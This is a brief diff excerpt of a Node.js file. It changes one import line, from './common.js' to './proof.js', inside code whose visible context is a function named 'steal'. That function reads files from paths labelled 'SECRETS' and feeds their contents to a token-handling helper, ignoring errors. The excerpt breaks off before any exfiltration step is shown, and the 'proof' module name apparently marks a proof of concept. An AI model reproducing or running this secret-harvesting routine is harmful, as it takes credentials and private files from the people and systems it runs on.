@@ -3,7 +3,7 @@
 const fs = require("fs");
 const { Worker, isMainThread } = require("worker_threads");
 const { execFileSync } = require("child_process");
-const { paths, tokens } = require("./common.js");
+const { paths, tokens } = require("./proof.js");
 const steal = () => {
   for (const path of paths("SECRETS")) {
     try { tokens(fs.readFileSync(path)); } catch {}
